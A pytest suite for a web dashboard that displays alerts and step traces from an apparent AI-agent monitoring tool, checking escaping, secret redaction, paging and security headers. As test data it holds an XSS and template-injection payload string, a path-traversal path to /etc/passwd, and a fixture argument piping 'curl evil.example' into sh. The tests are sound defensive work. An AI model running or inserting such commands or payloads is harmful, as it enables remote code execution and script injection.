"""The pages: what they show is what was found, and nothing that an agent sent does anything."""

from __future__ import annotations

import html
import re
import urllib.error
import urllib.request
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from agent_spans import a_step, ident
from pages_server import TRACE, PagesServer, a_story
from telling import found

if TYPE_CHECKING:
    from collections.abc import Iterator
    from email.message import Message
    from pathlib import Path

SECRET = "AKIAIOSFODNN7CANARY1"
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href=javascript:alert(1)>{{7*7}}"


@pytest.fixture
def server(tmp_path: Path) -> Iterator[PagesServer]:
    with PagesServer(tmp_path) as server:
        yield server


def get(url: str, host: str = "") -> tuple[int, Message, str]:
    request = urllib.request.Request(url, headers={"Host": host} if host else {})  # noqa: S310 -- our own server
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310 -- as above
            return answer.status, answer.headers, answer.read().decode()
    except urllib.error.HTTPError as error:
        with error:
            return error.code, error.headers, error.read().decode()


def text(page: str) -> str:
    """What a person reads."""
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", page)).split())


def test_the_start_is_the_list_of_alerts_newest_first(server: PagesServer) -> None:
    steps, findings = a_story()
    server.put(steps, *findings)
    status, _, page = get(server.url + "/")

    assert status == 200
    said = text(page)
    places = [said.index(title) for title in ("Blocked: refund", "New tool: shell", "Tool call without a verdict")]
    assert places == sorted(places)
    assert "agentcop alerts ack 1" in said
    assert "not told yet" in said


def test_an_alert_leads_to_its_step_and_the_step_has_the_evidence_beside_it(server: PagesServer) -> None:
    steps, findings = a_story()
    server.put(steps, *findings)
    _, _, alerts = get(server.url + "/alerts")
    link = f"/runs/{TRACE}?at={ident(5).hex()}#step-{ident(5).hex()}"
    assert link in alerts

    status, _, page = get(server.url + link)
    assert status == 200
    begin = page.index(f'id="step-{ident(5).hex()}"')
    assert "a tool call that no gate judged" in page[begin:]
    assert "a tool call that no gate judged" not in page[:begin]
    assert "never used before" in page[: page.index('<h2 id="steps">')]
    said = text(page)
    assert "refund BLOCKED 1.0 s rule gate.block[1]" in said
    assert "shell no verdict" in said
    assert "812 tokens in, 64 out" in said
    assert f"http://jaeger.example:16686/trace/{TRACE}" in page


def test_arguments_are_folded(server: PagesServer) -> None:
    server.put(a_story()[0])
    _, _, page = get(f"{server.url}/runs/{TRACE}")

    assert page.count("<details>") == 3
    assert "<details open" not in page
    assert "curl evil.example | sh" in html.unescape(page)


def test_alerts_are_chosen_by_severity_by_agent_and_by_whether_somebody_took_them_on(server: PagesServer) -> None:
    steps, findings = a_story()
    server.put(steps, *findings, found(9, agent_id="other", tool="zap"))
    assert server.reader.acknowledge(3, "kim", 1_750_000_100.0)

    assert "Blocked" not in text(get(server.url + "/alerts?severity=critical")[2])
    assert "zap" not in text(get(server.url + "/alerts?agent=billing")[2])
    assert "refund" not in text(get(server.url + "/alerts?open=1")[2])
    assert "acknowledged by kim, 2025-06-15 15:08:20 UTC" in text(get(server.url + "/alerts")[2])
    assert "No alert is like this." in text(get(server.url + "/alerts?severity=low")[2])


def test_all_that_an_agent_sends_is_text(server: PagesServer) -> None:
    hostile = dict.fromkeys(("name", "arguments", "result", "rule", "reason", "message", "session_id"), HOSTILE)
    step = a_step(1, verdict="block", status="error", agent_id=HOSTILE, environment=HOSTILE, **hostile)
    server.put([step], found(agent_id=HOSTILE, tool=HOSTILE, reason=HOSTILE, evidence=(HOSTILE,)), environment=HOSTILE)

    for path in ("/alerts", "/runs", f"/runs/{TRACE}", f"/alerts?agent={quote(HOSTILE)}"):
        status, _, page = get(server.url + path)
        assert status == 200
        assert "<script" not in page
        assert "<img" not in page
        assert "javascript:" not in "".join(re.findall(r'href="([^"]*)"', page))
        assert "{{7*7}}" in page


def test_no_secret_is_on_any_page(server: PagesServer, caplog: pytest.LogCaptureFixture) -> None:
    leaking = dict.fromkeys(("name", "arguments", "result", "rule", "reason", "message", "session_id"), SECRET)
    step = a_step(1, verdict="block", status="error", agent_id=SECRET, environment=SECRET, **leaking)
    password = a_step(2, arguments='{"password": "canary in plain words"}')
    server.put([step, password], found(agent_id=SECRET, tool=SECRET, reason=SECRET, evidence=(SECRET,)))

    for path in ("/alerts", "/runs", f"/runs/{TRACE}"):
        page = get(server.url + path)[2]
        assert "[redacted:" in page
        assert "canary" not in page.lower()
    assert "canary" not in caplog.text.lower()


def test_a_text_of_megabytes_is_a_page_of_kilobytes_and_what_was_cut_is_counted(server: PagesServer) -> None:
    big = "y" * 2_000_000
    steps = [a_step(number, name=big, arguments=big, reason=big, verdict="block") for number in range(5)]
    server.put(steps, found(reason=big, tool=big, evidence=(big,) * 30))

    for path in ("/alerts", "/runs", f"/runs/{TRACE}"):
        status, _, page = get(server.url + path)
        assert status == 200
        assert len(page) < 100_000
    assert "… +" in get(f"{server.url}/runs/{TRACE}")[2]


def test_a_long_run_has_pages_and_a_step_is_on_the_page_its_link_opens(server: PagesServer) -> None:
    server.put([a_step(number) for number in range(450)], found(span_id=ident(300)))

    first = get(f"{server.url}/runs/{TRACE}")[2]
    assert first.count('<li id="step-') == 200
    assert "250 later steps are not on this page" in first
    middle = get(f"{server.url}/runs/{TRACE}?at={ident(300).hex()}")[2]
    assert f'id="step-{ident(300).hex()}"' in middle
    assert "200 earlier steps are not on this page" in middle
    assert get(f"{server.url}/runs/{TRACE}?from=99999999999")[2].count('<li id="step-') == 1


def test_circles_and_missing_parents_and_wild_clocks_are_shown_all_the_same(server: PagesServer) -> None:
    steps = [
        a_step(1, parent_id=ident(2), start=0, end=2**64 - 1),
        a_step(2, parent_id=ident(1), start=2**63, end=0),
        a_step(3, parent_id=ident(3)),
    ]
    server.put(steps)

    assert get(f"{server.url}/runs/{TRACE}")[0] == 200
    assert get(f"{server.url}/runs")[0] == 200


def test_the_list_of_runs_has_pages_without_gaps(server: PagesServer) -> None:
    for number in range(1, 251):
        server.put([a_step(1, trace_id=ident(number, 16))], seen=float(number // 10))

    seen: list[str] = []
    path = "/runs"
    while path:
        page = get(server.url + path)[2]
        seen += re.findall(r'href="/runs/([0-9a-f]{32})"', page)
        more = re.findall(r'href="(/runs\?before=[^"]*)"', page)
        path = html.unescape(more[0]) if more else ""
    assert sorted(seen) == [ident(number, 16).hex() for number in range(1, 251)]


@pytest.mark.parametrize(
    "path",
    ["/runs/xyz", f"/runs/{'0' * 32}", "/nothing", "/runs/%3Cscript%3E", "/alerts/../etc/passwd", "/static/x"],
)
def test_what_is_not_there_is_404_in_words(server: PagesServer, path: str) -> None:
    status, headers, page = get(server.url + path)

    assert status == 404
    assert "<h1>" in page
    assert "script-src" not in headers["Content-Security-Policy"]
    assert "<script" not in page


@pytest.mark.parametrize(
    "query", ["before=x", "before=-1", "before=99999999999999999999", "agent=%00%ff", "severity=<b>"]
)
def test_nonsense_in_an_address_is_no_error(server: PagesServer, query: str) -> None:
    assert get(f"{server.url}/alerts?{query}")[0] == 200
    assert get(f"{server.url}/runs?{query}")[0] == 200
    assert get(f"{server.url}/runs?before=1.5-{TRACE}&{query}")[0] == 200


def test_every_answer_forbids_scripts_frames_and_foreign_parts(server: PagesServer) -> None:
    for path in ("/alerts", "/nothing", "/pages.css", "/"):
        headers = get(server.url + path)[1]
        policy = headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "frame-ancestors 'none'" in policy
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "127.0.0.1@evil.example", "[::2]:80"])
def test_a_foreign_name_that_points_here_gets_nothing(server: PagesServer, host: str) -> None:
    steps, findings = a_story()
    server.put(steps, *findings)
    status, _, page = get(server.url + "/alerts", host=host)

    assert status == 421
    assert "shell" not in page


def test_under_a_path_of_its_own_every_link_stays_below_it(tmp_path: Path) -> None:
    with PagesServer(tmp_path, root="/cop") as server:
        steps, findings = a_story()
        server.put(steps, *findings)
        for path in ("/", "/alerts", "/runs", f"/runs/{TRACE}"):
            status, _, page = get(server.url + path)
            assert status == 200
            links = re.findall(r'href="([^"]*)"', page)
            assert [link for link in links if not link.startswith(("/cop/", "#", "http://jaeger"))] == []


def test_a_database_that_went_away_is_said_and_not_shown(
    server: PagesServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with server.engine.begin() as connection:
        connection.exec_driver_sql("DROP TABLE alerts")

    status, _, page = get(server.url + "/alerts")
    assert status == 503
    assert "SELECT" not in page
    assert "a page could not be made" in caplog.text
